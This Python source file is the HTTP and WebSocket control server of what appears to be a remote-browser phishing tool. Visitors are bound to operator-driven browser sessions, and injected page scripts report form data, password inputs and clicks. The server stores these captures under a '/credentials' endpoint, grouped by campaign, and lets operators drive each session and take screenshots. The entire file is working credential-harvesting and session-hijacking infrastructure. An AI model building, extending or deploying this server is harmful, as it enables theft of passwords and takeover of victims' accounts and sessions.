"""Control plane HTTP and WebSocket service.

Runs the session broker behind an aiohttp application. Operators create and
drive sessions over HTTP, watch them over a WebSocket channel, and the
instrumentation injected into each controlled page reports back here.

Endpoints (prefix /api/browser):
    POST   /create-session                 - Launch a browser session
    GET    /session/{token}                - Session info
    GET    /sessions                       - All live sessions
    POST   /session/{token}/action         - Apply a remote-control action
    GET    /session/{token}/screenshot     - PNG capture
    GET    /session/{token}/fast-screenshot - Low-quality JPEG capture
    GET    /session/{token}/hq-screenshot  - Full-page PNG capture
    DELETE /session/{token}                - Close the session
    POST   /capture-form/{token}           - Form submission report
    POST   /capture-input/{token}          - Password input report
    POST   /track-click/{token}            - Click report
    GET    /credentials/{token}            - Stored captures for a token
    GET    /bound-sessions                 - Durable session records (?campaignId=)
    GET    /health                         - Service health
    GET    /ws                             - Real-time viewer channel
    GET    /browser/{token}                - Bind URL (restores on demand)
"""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import secrets
import sys
import time
from datetime import datetime, timezone
from pathlib import Path
from string import Template
from typing import Optional

import aiosqlite
from aiohttp import WSMsgType, web
from pydantic import ValidationError

from ..config import CONTROL_PLANE_HOST, CONTROL_PLANE_PORT, DB_PATH, ensure_dirs
from ..constants import API_PREFIX, BIND_PREFIX, VIEWER_PAGE
from ..database.models import initialize_db
from ..database.repository import SessionRepository
from ..models.session import OriginContext
from .broker import Launcher, SessionBroker
from .browser import PlaywrightLauncher
from .errors import LaunchFailure, PageUnavailable, SessionNotFound
from .scheduler import CleanupScheduler

logger = logging.getLogger(__name__)
if not logger.handlers:
    handler = logging.StreamHandler(sys.stderr)
    handler.setFormatter(logging.Formatter("%(asctime)s [%(name)s] %(levelname)s: %(message)s"))
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)


class ControlPlane:
    """Owns the database connection, launcher, broker and cleanup scheduler."""

    def __init__(self, launcher: Optional[Launcher] = None, db_path: Path = DB_PATH, run_scheduler: bool = True):
        self.launcher = launcher or PlaywrightLauncher()
        self.db_path = db_path
        self.run_scheduler = run_scheduler
        self.db: aiosqlite.Connection | None = None
        self.repo: SessionRepository | None = None
        self.broker: SessionBroker | None = None
        self.scheduler: CleanupScheduler | None = None
        self.started_at = time.monotonic()

    async def setup(self):
        """Open the database and build the broker."""
        ensure_dirs()
        self.db = await aiosqlite.connect(str(self.db_path))
        await initialize_db(self.db)
        self.repo = SessionRepository(self.db)
        self.broker = SessionBroker(self.launcher, self.repo)
        self.scheduler = CleanupScheduler(self.broker)
        if self.run_scheduler:
            self.scheduler.start()

    async def cleanup(self):
        """Close every session and release resources."""
        if self.scheduler:
            await self.scheduler.stop()
        if self.broker:
            await self.broker.shutdown()
        stop = getattr(self.launcher, "stop", None)
        if stop is not None:
            await stop()
        if self.db:
            await self.db.close()


def _broker(request: web.Request) -> SessionBroker:
    return request.app["plane"].broker


def _origin(request: web.Request, body: Optional[dict] = None) -> OriginContext:
    body = body or {}
    return OriginContext(
        ip=request.remote or "unknown",
        user_agent=request.headers.get("User-Agent", "unknown"),
        screen_width=body.get("screenWidth"),
        screen_height=body.get("screenHeight"),
    )


async def _json_body(request: web.Request) -> dict:
    """Parse a JSON object body regardless of declared content type.

    Injected page scripts post with text/plain to stay within no-cors rules.
    """
    text = await request.text()
    if not text:
        return {}
    try:
        body = json.loads(text)
    except ValueError:
        raise web.HTTPBadRequest(
            text=json.dumps({"success": False, "message": "Body must be JSON"}),
            content_type="application/json",
        )
    if not isinstance(body, dict):
        raise web.HTTPBadRequest(
            text=json.dumps({"success": False, "message": "Body must be a JSON object"}),
            content_type="application/json",
        )
    return body


def _not_found(token: str) -> web.Response:
    return web.json_response({"success": False, "message": f"Session not found: {token}"}, status=404)


def _gone(e: PageUnavailable) -> web.Response:
    return web.json_response({"success": False, "message": "Browser page is not available", "error": str(e)}, status=410)


# ── HTTP Handlers ────────────────────────────────────────────────────────────


async def handle_create(request: web.Request) -> web.Response:
    broker = _broker(request)
    body = await _json_body(request)
    campaign_id = body.get("campaignId")
    if not campaign_id:
        return web.json_response({"success": False, "message": "campaignId is required"}, status=400)

    session_token = body.get("sessionToken") or secrets.token_urlsafe(16)
    if not isinstance(session_token, str):
        return web.json_response({"success": False, "message": "sessionToken must be a string"}, status=400)
    target_urls = body.get("targetUrls") or None
    if target_urls is not None and not (
        isinstance(target_urls, list) and all(isinstance(u, str) for u in target_urls)
    ):
        return web.json_response({"success": False, "message": "targetUrls must be a list of URLs"}, status=400)
    try:
        origin = _origin(request, body)
    except ValidationError:
        return web.json_response(
            {"success": False, "message": "screenWidth and screenHeight must be integers"}, status=400
        )

    try:
        info = await broker.create(session_token, str(campaign_id), origin, target_urls)
    except LaunchFailure as e:
        logger.error(f"Failed to create session {session_token}: {e}")
        return web.json_response(
            {"success": False, "message": "Failed to launch browser session", "error": str(e)},
            status=503,
        )

    return web.json_response({
        "success": True,
        "session": info.to_wire(),
        "message": "Browser session created successfully",
    })


async def handle_get_session(request: web.Request) -> web.Response:
    token = request.match_info["token"]
    info = _broker(request).lookup(token)
    if info is None:
        return _not_found(token)
    return web.json_response({"success": True, "session": info.to_wire()})


async def handle_list_sessions(request: web.Request) -> web.Response:
    sessions = [info.to_wire() for info in _broker(request).list_sessions()]
    return web.json_response({"success": True, "sessions": sessions, "count": len(sessions)})


async def handle_action(request: web.Request) -> web.Response:
    token = request.match_info["token"]
    body = await _json_body(request)
    action = body.get("action")
    params = body.get("params") or {}
    if not isinstance(action, str) or not action or not isinstance(params, dict):
        return web.json_response({"success": False, "message": "action and object params are required"}, status=400)

    try:
        result = await _broker(request).execute_action(token, action, params)
    except SessionNotFound:
        return _not_found(token)
    except PageUnavailable as e:
        return _gone(e)

    return web.json_response({
        "success": result.success,
        "result": result.model_dump(),
        "message": result.message or "Action executed",
    })


async def _screenshot_response(request: web.Request, fast: bool = False, hq: bool = False) -> web.Response:
    token = request.match_info["token"]
    try:
        image = await _broker(request).screenshot(token, fast=fast, hq=hq)
    except SessionNotFound:
        return _not_found(token)
    except PageUnavailable as e:
        return _gone(e)
    return web.Response(
        body=image,
        content_type="image/jpeg" if fast else "image/png",
        headers={"Cache-Control": "no-store"},
    )


async def handle_screenshot(request: web.Request) -> web.Response:
    return await _screenshot_response(request)


async def handle_fast_screenshot(request: web.Request) -> web.Response:
    return await _screenshot_response(request, fast=True)


async def handle_hq_screenshot(request: web.Request) -> web.Response:
    return await _screenshot_response(request, hq=True)


async def handle_close(request: web.Request) -> web.Response:
    token = request.match_info["token"]
    if await _broker(request).close(token):
        return web.json_response({"success": True, "message": "Session closed successfully"})
    return web.json_response({"success": False, "message": "Session not found or already closed"}, status=404)


async def handle_capture_form(request: web.Request) -> web.Response:
    token = request.match_info["token"]
    body = await _json_body(request)
    form_data = body.get("formData") or {}
    if not isinstance(form_data, dict):
        return web.json_response({"success": False, "message": "formData must be an object"}, status=400)
    try:
        _broker(request).report_form(token, form_data, str(body.get("url", "")))
    except SessionNotFound:
        return _not_found(token)
    return web.json_response({"success": True})


async def handle_capture_input(request: web.Request) -> web.Response:
    token = request.match_info["token"]
    body = await _json_body(request)
    try:
        _broker(request).report_input(
            token, str(body.get("type", "")), str(body.get("name", "")), str(body.get("url", ""))
        )
    except SessionNotFound:
        return _not_found(token)
    return web.json_response({"success": True})


async def handle_track_click(request: web.Request) -> web.Response:
    token = request.match_info["token"]
    body = await _json_body(request)
    element = body.get("element") if isinstance(body.get("element"), dict) else {}
    try:
        _broker(request).report_click(token, element, str(body.get("url", "")))
    except SessionNotFound:
        return _not_found(token)
    return web.json_response({"success": True})


async def handle_credentials(request: web.Request) -> web.Response:
    token = request.match_info["token"]
    plane: ControlPlane = request.app["plane"]
    stored = await plane.repo.list_credentials(token) if plane.repo else []
    credentials = stored or plane.broker.credentials(token)
    return web.json_response({
        "success": True,
        "credentials": [c.to_wire() for c in credentials],
        "count": len(credentials),
    })


async def handle_bound_sessions(request: web.Request) -> web.Response:
    """Durable session records with their bind URLs, for finding restorable sessions."""
    plane: ControlPlane = request.app["plane"]
    records = await plane.repo.list_records(request.query.get("campaignId") or None)
    sessions = []
    for record in records:
        live = plane.broker.lookup(record.session_token)
        sessions.append({
            "sessionToken": record.session_token,
            "campaignId": record.campaign_id,
            "createdAt": record.created_at.isoformat(),
            "bindUrl": plane.broker.bind_url(record.session_token),
            "isActive": bool(live and live.is_active),
        })
    return web.json_response({"success": True, "sessions": sessions, "count": len(sessions)})


async def handle_health(request: web.Request) -> web.Response:
    plane: ControlPlane = request.app["plane"]
    sessions = plane.broker.list_sessions()
    return web.json_response({
        "status": "healthy",
        "activeSessions": sum(1 for s in sessions if s.is_active),
        "totalSessions": len(sessions),
        "cleanupRunning": bool(plane.scheduler and plane.scheduler.running),
        "uptime": round(time.monotonic() - plane.started_at, 1),
        "timestamp": datetime.now(timezone.utc).isoformat(),
    })


async def handle_bind(request: web.Request) -> web.Response:
    """Send the visitor to a live session, restoring it from its record if needed."""
    token = request.match_info["token"]
    try:
        info = await _broker(request).get_or_restore(token, _origin(request))
    except SessionNotFound:
        return web.Response(
            text="<html><body><h3>Session not found</h3></body></html>",
            content_type="text/html",
            status=404,
        )
    except LaunchFailure as e:
        logger.error(f"Bind URL could not start session {token}: {e}")
        return web.Response(
            text="<html><body><h3>Session unavailable</h3></body></html>",
            content_type="text/html",
            status=503,
        )

    if info.debugging_url:
        raise web.HTTPFound(info.debugging_url)

    page = Template(VIEWER_PAGE).substitute(session_token=token, api_prefix=API_PREFIX)
    return web.Response(text=page, content_type="text/html")


# ── Real-time channel ────────────────────────────────────────────────────────


async def _pump(ws: web.WebSocketResponse, viewer):
    """Forward queued events to the socket in order."""
    while True:
        event = await viewer.queue.get()
        await ws.send_json(event.to_message())


async def _handle_ws_message(broker: SessionBroker, viewer_id: str, message: dict):
    event = message.get("event")
    data = message.get("data") or {}
    hub = broker.hub
    if not isinstance(data, dict):
        hub.send(viewer_id, "", "error", {"message": "data must be an object"})
        return

    token = data.get("sessionToken")
    if not token or not isinstance(token, str):
        hub.send(viewer_id, "", "error", {"message": "sessionToken is required"})
        return

    if event == "joinSession":
        hub.join(token, viewer_id)
        info = broker.lookup(token)
        if info is not None:
            hub.send(viewer_id, token, "sessionInfo", info.to_wire())

    elif event == "leaveSession":
        hub.leave(token, viewer_id)

    elif event == "requestScreenshot":
        fast = bool(data.get("fast", False))
        hq = bool(data.get("hq", False))
        try:
            image = await broker.screenshot(token, fast=fast, hq=hq)
        except (SessionNotFound, PageUnavailable) as e:
            hub.send(viewer_id, token, "screenshotError", {"error": str(e)})
            return
        payload = {
            "screenshot": base64.b64encode(image).decode("ascii"),
            "mimeType": "image/jpeg" if fast else "image/png",
        }
        if hub.is_member(token, viewer_id):
            hub.publish(token, "screenshot", payload)
        else:
            hub.send(viewer_id, token, "screenshot", payload)

    elif event == "executeAction":
        # Malformed actions and params come back as a failed actionResult
        action = data.get("action", "")
        params = data.get("params") or {}
        request_id = data.get("requestId")
        try:
            result = await broker.execute_action(token, action, params)
        except (SessionNotFound, PageUnavailable) as e:
            hub.send(viewer_id, token, "actionError", {"action": action, "error": str(e), "requestId": request_id})
            return
        hub.send(
            viewer_id,
            token,
            "actionResult",
            {"action": action, "params": params, "result": result.model_dump(), "requestId": request_id},
        )

    else:
        hub.send(viewer_id, token, "error", {"message": f"Unknown event: {event}"})


async def handle_ws(request: web.Request) -> web.WebSocketResponse:
    broker = _broker(request)
    ws = web.WebSocketResponse(heartbeat=30)
    await ws.prepare(request)

    viewer = broker.hub.connect()
    pump = asyncio.create_task(_pump(ws, viewer))
    logger.info(f"Viewer connected: {viewer.viewer_id}")

    try:
        async for msg in ws:
            if msg.type == WSMsgType.TEXT:
                try:
                    message = json.loads(msg.data)
                except ValueError:
                    broker.hub.send(viewer.viewer_id, "", "error", {"message": "Messages must be JSON"})
                    continue
                if isinstance(message, dict):
                    await _handle_ws_message(broker, viewer.viewer_id, message)
            elif msg.type == WSMsgType.ERROR:
                logger.warning(f"Viewer {viewer.viewer_id} socket error: {ws.exception()}")
    finally:
        broker.hub.disconnect(viewer.viewer_id)
        pump.cancel()
        try:
            await pump
        except (asyncio.CancelledError, ConnectionResetError):
            pass
        logger.info(f"Viewer disconnected: {viewer.viewer_id}")

    return ws


# ── App Factory ──────────────────────────────────────────────────────────────


def create_app(plane: Optional[ControlPlane] = None) -> web.Application:
    app = web.Application()
    app["plane"] = plane or ControlPlane()

    async def on_startup(app: web.Application):
        await app["plane"].setup()
        logger.info(f"Control plane started on {CONTROL_PLANE_HOST}:{CONTROL_PLANE_PORT}")

    async def on_cleanup(app: web.Application):
        await app["plane"].cleanup()
        logger.info("Control plane stopped.")

    app.on_startup.append(on_startup)
    app.on_cleanup.append(on_cleanup)

    app.router.add_post(f"{API_PREFIX}/create-session", handle_create)
    app.router.add_get(f"{API_PREFIX}/session/{{token}}", handle_get_session)
    app.router.add_get(f"{API_PREFIX}/sessions", handle_list_sessions)
    app.router.add_post(f"{API_PREFIX}/session/{{token}}/action", handle_action)
    app.router.add_get(f"{API_PREFIX}/session/{{token}}/screenshot", handle_screenshot)
    app.router.add_get(f"{API_PREFIX}/session/{{token}}/fast-screenshot", handle_fast_screenshot)
    app.router.add_get(f"{API_PREFIX}/session/{{token}}/hq-screenshot", handle_hq_screenshot)
    app.router.add_delete(f"{API_PREFIX}/session/{{token}}", handle_close)
    app.router.add_post(f"{API_PREFIX}/capture-form/{{token}}", handle_capture_form)
    app.router.add_post(f"{API_PREFIX}/capture-input/{{token}}", handle_capture_input)
    app.router.add_post(f"{API_PREFIX}/track-click/{{token}}", handle_track_click)
    app.router.add_get(f"{API_PREFIX}/credentials/{{token}}", handle_credentials)
    app.router.add_get(f"{API_PREFIX}/bound-sessions", handle_bound_sessions)
    app.router.add_get(f"{API_PREFIX}/health", handle_health)
    app.router.add_get(f"{API_PREFIX}/ws", handle_ws)
    app.router.add_get(f"{BIND_PREFIX}/{{token}}", handle_bind)

    return app


def main():
    """Run the control plane as a standalone HTTP service."""
    app = create_app()
    web.run_app(app, host=CONTROL_PLANE_HOST, port=CONTROL_PLANE_PORT)


if __name__ == "__main__":
    main()
